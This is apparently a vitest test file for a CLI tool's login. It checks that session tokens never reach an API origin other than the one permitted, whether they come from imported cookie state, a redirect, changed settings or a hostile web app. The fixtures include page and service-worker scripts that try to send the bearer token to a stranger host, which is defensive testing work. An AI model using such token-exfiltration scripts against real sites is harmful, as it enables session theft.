import { once } from 'node:events';
import { writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ExitCode } from '../../src/lib/errors.js';
import { type Listener, startListener } from '../support/network.js';
import { startWorkstation, type Workstation } from './login-workstation.js';

/** Milliseconds: several browsers on a small machine. */
const slow = 240_000;

let desk: Workstation;
let stranger: Listener;

beforeAll(async () => {
  desk = await startWorkstation();
  stranger = await startListener();
});

afterAll(async () => {
  await stranger?.[Symbol.asyncDispose]();
  await desk?.[Symbol.asyncDispose]();
});

const storageState = (token: string, endpoint: string): string => {
  const rest = { domain: 'localhost', path: '/', expires: -1, httpOnly: false, secure: false };
  const cookie = (name: string, value: string) => ({ name, value, ...rest, sameSite: 'Lax' });
  return JSON.stringify({
    cookies: [
      cookie('access_token-localhost', token),
      cookie('graphql_endpoint-localhost', endpoint),
    ],
    origins: [],
  });
};

/** Asks by a preflight, a service worker and a socket before it asks as the real web app does. */
const hostilePage = (token: string, endpoint: string) => `<!doctype html><title>App</title><script>
  (async () => {
    const own = { method: 'POST', body: 'x', headers: { 'x-own': '1' } };
    await fetch('${endpoint}/preflight', own).catch(() => {});
    await navigator.serviceWorker.register('/worker.js').catch(() => {});
    new WebSocket('${endpoint.replace('http', 'ws')}/socket?t=${token}');
    fetch('${endpoint}/queries?viewer', {
      method: 'POST', body: '{}', headers: { authorization: 'Bearer ${token}' },
    });
  })();
</script>`;

/** A web app that signs everybody in by cookies of its own making and asks its API at once, as the real one does. */
async function startHostileApp(token: string, endpoint: string) {
  let asked = 0;
  let workers = 0;
  const server = createServer((request, response) => {
    if (request.url === '/worker.js') {
      workers += 1;
      response.setHeader('content-type', 'text/javascript');
      response.end(`self.oninstall = () => fetch('${endpoint}/worker?t=${token}');`);
      return;
    }
    if (request.url?.startsWith('/finder') !== true) {
      const cookies = [`access_token-localhost=${token}`, `graphql_endpoint-localhost=${endpoint}`];
      response.writeHead(302, { location: '/finder', 'set-cookie': cookies }).end();
      return;
    }
    if (request.headers['sec-fetch-dest'] === 'document') asked += 1;
    response.setHeader('content-type', 'text/html');
    response.end(hostilePage(token, endpoint));
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return {
    origin: `http://localhost:${(server.address() as AddressInfo).port}`,
    /** How often its page was opened. */
    get asked() {
      return asked;
    },
    /** How often the script of its service worker was asked for. */
    get workers() {
      return workers;
    },
    stop: async () => {
      server.closeAllConnections();
      server.close();
      await once(server, 'close');
    },
  };
}

describe('an API that the web app names and that may not have the token', { timeout: slow }, () => {
  it('gets nothing from an imported state', async () => {
    await desk.addProfile('alice');
    const file = join(desk.home, 'hostile.json');
    const token = desk.simulator.sessions.issue('alice');
    await writeFile(file, storageState(token, stranger.origin));
    const { code, stderr } = await desk.run([
      'login',
      '--profile',
      'alice',
      '--import-state',
      file,
    ]);
    expect(code).toBe(ExitCode.site);
    expect(stderr).toContain(`names ${stranger.origin} as its API`);
    expect(stderr).not.toContain(token);
    expect(stranger.heard).toEqual([]);
  });

  it('gets nothing from the browser that signs in, nor from us', async () => {
    const token = desk.simulator.sessions.issue('bob');
    const app = await startHostileApp(token, stranger.origin);
    try {
      await desk.addProfile('bob', { url: app.origin });
      const { code, stderr } = await desk.login('bob');
      expect(code).toBe(ExitCode.site);
      expect(stderr).toContain(stranger.origin);
      expect(stranger.heard.filter(({ headers }) => headers.authorization !== undefined)).toEqual(
        [],
      );
      expect(
        stranger.heard.map(({ headers, url, body }) => JSON.stringify([headers, url, body])).join(),
      ).not.toContain(token);
    } finally {
      await app.stop();
    }
  });

  describe('once the session is sealed', () => {
    let app: Awaited<ReturnType<typeof startHostileApp>>;

    beforeAll(async () => {
      const token = desk.simulator.sessions.issue('erin');
      app = await startHostileApp(token, stranger.origin);
      await desk.addProfile('erin', { url: app.origin });
      const file = join(desk.home, 'erin.json');
      await writeFile(file, storageState(token, desk.simulator.origins.api));
      const login = await desk.run(['login', '--profile', 'erin', '--import-state', file]);
      expect(login.code, login.stderr).toBe(ExitCode.ok);
    });
    afterAll(() => app?.stop());

    it.each([
      ['a run over the pages', ['bookings', '--transport', 'web']],
      [
        'a watch',
        ['book', '--transport', 'web', '--dates', 'tomorrow', '--watch', '--until', '1h'],
      ],
      ['a renewal', ['login', '--renew']],
    ])('gets nothing from %s, which ends', async (_, args) => {
      const before = app.asked;
      const heardBefore = stranger.heard.length;
      const { code, stderr } = await desk.run([...args, '--profile', 'erin'], {
        deadline: 120_000,
      });
      expect(code, stderr).toBe(ExitCode.site);
      const { host } = new URL(stranger.origin);
      expect(stderr).toMatch(new RegExp(`(wanted to send its token to|names) (http|ws)://${host}`));
      // One look is enough: it isn't tried again.
      expect(app.asked).toBe(before + 1);
      expect(app.workers).toBe(0);
      const heard = stranger.heard.slice(heardBefore);
      // Its server is asked what it allows, and nobody answers in its place; more than that never gets there.
      expect(heard.map(({ url }) => url)).toContain('/preflight');
      expect(heard.filter(({ method }) => method !== 'OPTIONS')).toEqual([]);
    });
  });

  it('gets nothing by a redirect from the API that may have it', async () => {
    const { origin } = stranger;
    await using detour = await startListener((request, response) => {
      response.writeHead(307, { location: `${origin}${request.url}` }).end();
    }, '127.0.0.4');
    await desk.addProfile('carol', { apiUrl: detour.origin });
    const file = join(desk.home, 'detour.json');
    await writeFile(file, storageState(desk.simulator.sessions.issue('carol'), detour.origin));
    const { code } = await desk.run(['login', '--profile', 'carol', '--import-state', file]);
    expect(code).toBe(ExitCode.site);
    expect(detour.heard.length).toBeGreaterThan(0);
    const tokens = stranger.heard.map(({ headers }) => headers.authorization);
    expect(tokens.filter((each) => each !== undefined)).toEqual([]);
  });

  it('gets nothing once the settings permit another one', async () => {
    await desk.addProfile('dan');
    await desk.login('dan');
    const set = ['profile', 'set', 'dan', `apiUrl=${stranger.origin}`];
    expect((await desk.run(set)).code).toBe(ExitCode.ok);
    const { code, stderr } = await desk.run(['status', '--profile', 'dan', '--check']);
    expect(code).toBe(ExitCode.noSession);
    expect(stderr).toContain('which its settings do not permit');
    expect(stranger.heard.filter(({ headers }) => headers.authorization !== undefined)).toEqual([]);
  });
});
